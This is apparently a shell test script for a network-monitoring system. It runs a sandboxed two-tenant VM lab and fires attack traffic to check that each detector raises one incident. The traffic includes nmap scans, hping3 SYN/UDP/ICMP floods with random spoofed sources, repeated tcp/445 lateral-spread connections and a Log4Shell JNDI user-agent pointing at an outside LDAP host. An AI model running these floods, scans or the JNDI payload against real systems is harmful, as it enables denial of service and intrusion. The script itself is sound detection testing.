#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# End to end, the traffic detectors (doc/alerts.md, "Detectors"): in a
# two-tenant lab, while benign traffic runs (a ping loop within tenant1, an
# HTTP fetch loop within tenant2), VMs launch attacks with nmap, hping3,
# curl and Python sockets, one after the other:
#
#   port-scan   t1vm1: nmap SYN scan of 300 ports of t2vm1
#   host-scan   t1vm1: nmap SYN scan of tcp/445 on 60 hosts (routed via
#               host0, where they die)
#   ping-sweep  t1vm1: nmap ICMP echo sweep of 60 hosts (the same way)
#   syn-flood   t1vm2: hping3 SYNs from random forged sources to t2vm1:80,
#               paced at 500/s (OVS userspace cannot take --flood)
#   udp-flood   t2vm1: hping3 UDP to t2vm2 at 2000/s
#   icmp-flood  t2vm2: hping3 ICMP echo to t1vm2 at 1000/s
#   lateral     t2vm2: connections to tcp/445 of every other VM, repeated
#   ndpi-risk   t1vm1: HTTP requests with a Log4Shell user agent to t2vm2
#   geo         t2vm1: UDP to 198.51.100.7, labelled FR by the geoip
#               enricher (tests/data/mkmmdb.pl), a denied country
#   volume      t1vm2: iperf3 at 50 Mbit/s to host0, after a quiet baseline
#               learned with short test intervals
#
# Each attack must raise exactly one incident of its type within 5 s of its
# start (measured here), naming the attacking VM's port and tenant, the
# right target (the key's end), with packets and bytes; the incident is
# then updated (a second record of the same id), not repeated.  At the end
# the jsonl sink holds exactly these ten incidents and no other type: the
# benign traffic raised nothing.  Some thresholds are lowered to suit the
# lab's rates (OVS userspace forwards ~50 k small packets/s on 2 cores);
# test-benign.sh runs the defaults.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/daemon-lib.sh"

for tool in nmap hping3 iperf3 curl perl; do
    command -v "$tool" >/dev/null \
        || fail "missing $tool (tools/install-deps.sh)"
done

lab_up --tenants 2 --vms 2

DB=$VNM_LAB_DIR/geoip
mkdir -p "$DB"
check -m "test GeoIP databases built" \
    perl "$VNM_TOP/tests/data/mkmmdb.pl" "$DB"

write_configs
cat >>"$VNM_LAB_DIR/etc/agent.conf" <<CONF

[enricher "geoip"]
country_db = $DB/country.mmdb
asn_db = $DB/asn.mmdb

[networks]
host = 10.0.0.1, fd00::1

[flows]
first_update = 1s
update_interval = 1s
idle_timeout = 2s
syn_timeout = 2s
tcp_closed_timeout = 500ms
CONF
cat >"$VNM_LAB_DIR/etc/analyzer.conf" <<CONF
[analyzer]
host_id = $VNM_LAB_NAME
log = $VNM_LAB_DIR/log/analyzer.log
pidfile = $VNM_LAB_DIR/run/vnmon-analyzer.pid
plugin_dir = $PLUGIN_DIR
update_interval = 1s
archive = $VNM_LAB_DIR/incidents.jsonl
spool = $VNM_LAB_DIR/spool

[redis]
address = unix:$VNM_REDIS_SOCK
reconnect_max = 1s

[detector "scan"]

[detector "flood"]
udp_pps = 500
icmp_pps = 200

[detector "lateral"]
vms = 2

[detector "ndpi-risk"]

[detector "geo"]
deny_countries = FR

[detector "volume"]
interval = 2s
warmup = 5
min_bytes = 2000000

[sink "jsonl"]
path = $VNM_LAB_DIR/alerts.jsonl
CONF
alerts=$VNM_LAB_DIR/alerts.jsonl
: >"$alerts"

# Routes to networks that only host0 (in the lab's OVS namespace, which has
# no route anywhere) leads to: what is sent there dies in the lab.
for dst in 10.9.0.1 10.9.1.1 198.51.100.7; do
    ! ip -n "$VNM_LAB_NETNS" route get "$dst" >/dev/null 2>&1 \
        || fail "the lab's OVS namespace has a route to $dst"
done
for vm in t1vm1 t2vm1; do
    vm_exec "$vm" ip route add 10.9.0.0/16 via 10.0.0.1
    vm_exec "$vm" ip route add 198.51.100.0/24 via 10.0.0.1
done

start_agent
start_analyzer
check -m "both daemons up" wait_for 10 both_up
sleep 2                         # Taps bound, analyzer's group created.

# Benign traffic, all along.
vm_bg t2vm2 sh -c "exec '$PYTHON' -m http.server 80 --bind 10.0.0.22 \
    >/dev/null 2>&1"
wait_for 10 vm_exec t2vm1 curl -sf -o /dev/null http://10.0.0.22/ \
    || fail "HTTP server did not start"
vm_bg t1vm1 sh -c "exec ping -n -q -i 0.5 10.0.0.12 >/dev/null"
vm_bg t2vm1 "$PYTHON" -c '
import time, urllib.request
while True:
    urllib.request.urlopen("http://10.0.0.22/", timeout=2).read()
    time.sleep(0.5)'
ip netns exec "$VNM_LAB_NETNS" iperf3 -s -B 10.0.0.1 -p 5201 >/dev/null 2>&1 &
register_pid $!

# attack DETECTOR TYPE TARGET VM CMD...: starts CMD in VM, in the
# background, and checks that one incident of TYPE keyed ...VM>TARGET is
# raised within 5 s of the start, then updated; stops CMD if it still runs.
attack()
{
    local detector=$1 type=$2 target=$3 vm=$4 t0 t1 pid
    shift 4
    t0=${EPOCHREALTIME/[.,]/}
    vm_bg "$vm" "$@" >"$VNM_LAB_DIR/attack-$type.out" 2>&1
    pid=$BG_PID
    if ! wait_for 5 incident_check "$alerts" "$type" "$vm>$target"; then
        kill "$pid" 2>/dev/null || true
        sed 's/^/    | /' "$VNM_LAB_DIR/attack-$type.out" >&2
        incident_check "$alerts" "$type" "$vm>$target" || true
        fail "$type by $vm: no incident within 5 s"
    fi
    t1=${EPOCHREALTIME/[.,]/}
    pass "$type by $vm raised $(((t1 - t0) / 1000)) ms after the attack" \
        "started"
    check -m "$type: one incident, updated, naming $vm, its tenant, packets" \
        wait_for 10 incident_check "$alerts" "$type" "$vm>$target" \
        records\>1 port="$vm" tenant="tenant${vm:1:1}" packets\>0 bytes\>0 \
        detector="$detector" state=update
    kill "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}

# Every incident but those of the types given, if any, is a failure.
only_types()
{
    local extra
    extra=$(incident_types "$alerts" | grep -vxF -f <(printf '%s\n' "$@") \
        || true)
    [ -z "$extra" ] || { echo "unexpected incident types: $extra"; \
                         cat "$alerts"; return 1; }
}

sleep 2
check -m "benign traffic alone raises nothing" only_types none

# Scans.
attack scan port-scan 10.0.0.21 t1vm1 \
    nmap -n -Pn -sS -p 1-300 --min-rate 100 --max-rate 100 --max-retries 0 \
    10.0.0.21
attack scan host-scan tcp/445 t1vm1 \
    nmap -n -Pn -sS -p 445 --min-rate 20 --max-rate 20 --max-retries 0 \
    10.9.0.1-60
attack scan ping-sweep 10.9.1.0/24 t1vm1 \
    nmap -n -sn -PE --min-rate 20 --max-rate 20 --max-retries 0 \
    10.9.1.1-60

# Floods.
attack flood syn-flood 10.0.0.21:80 t1vm2 \
    hping3 -q -I eth0 -S -p 80 -i u2000 --rand-source 10.0.0.21
attack flood udp-flood 10.0.0.22 t2vm1 \
    hping3 -q -I eth0 --udp -s 5555 -k -p 9999 -i u500 10.0.0.22
attack flood icmp-flood 10.0.0.12 t2vm2 \
    hping3 -q -I eth0 -1 -i u1000 10.0.0.12

# Worm-like spread: tcp/445 of every other VM, again and again.
attack lateral lateral tcp/445 t2vm2 "$PYTHON" -c '
import socket, time
while True:
    for ip in ("10.0.0.11", "10.0.0.12", "10.0.0.21"):
        s = socket.socket()
        s.settimeout(0.2)
        try:
            s.connect((ip, 445))
        except OSError:
            pass
        s.close()
    time.sleep(0.3)'

# A Log4Shell probe nDPI flags (possible exploit, suspicious user agent).
attack ndpi-risk ndpi-risk 10.0.0.22 t1vm1 "$PYTHON" -c '
import socket, time
request = (b"GET / HTTP/1.1\r\nHost: 10.0.0.22\r\n"
           b"User-Agent: ${jndi:ldap://198.51.100.1:1389/a}\r\n\r\n")
while True:
    s = socket.create_connection(("10.0.0.22", 80), 2)
    s.sendall(request)
    s.recv(4096)
    s.close()
    time.sleep(0.5)'

# A denied country.
attack geo geo FR t2vm1 "$PYTHON" -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    s.sendto(b"vnmon geo test", ("198.51.100.7", 9999))
    time.sleep(0.2)'

# Volume: t1vm2 has been quiet (pings) for much more than the warm-up.
attack volume volume tx t1vm2 iperf3 -c 10.0.0.1 -p 5201 -t 8 -b 50M

check -m "exactly one incident of each type, and no other type" "$PYTHON" - \
    "$alerts" <<'PY'
import collections, json, sys
want = {"port-scan", "host-scan", "ping-sweep", "syn-flood", "udp-flood",
        "icmp-flood", "lateral", "ndpi-risk", "geo", "volume"}
ids = collections.defaultdict(set)
keys = collections.defaultdict(set)
for line in open(sys.argv[1]):
    r = json.loads(line)
    ids[r["type"]].add(r["id"])
    keys[r["type"]].add((r["key"], r["summary"]))
assert set(ids) == want, sorted(keys.items())
assert all(len(v) == 1 for v in ids.values()), sorted(keys.items())
print("ok - %d incidents: %s" % (len(ids), ", ".join(sorted(ids))))
PY
check -m "the floods name their targets" incident_check "$alerts" syn-flood \
    10.0.0.21:80 summary~"SYN flood on 10.0.0.21:80" severity=high
check -m "the Log4Shell probe is high severity" incident_check "$alerts" \
    ndpi-risk 10.0.0.22 severity=high summary~"Possible Exploit Detected"
check -m "geo names the peer" incident_check "$alerts" geo FR \
    summary~"198.51.100.7" severity=medium

stop_daemon agent
stop_daemon analyzer
lab_down
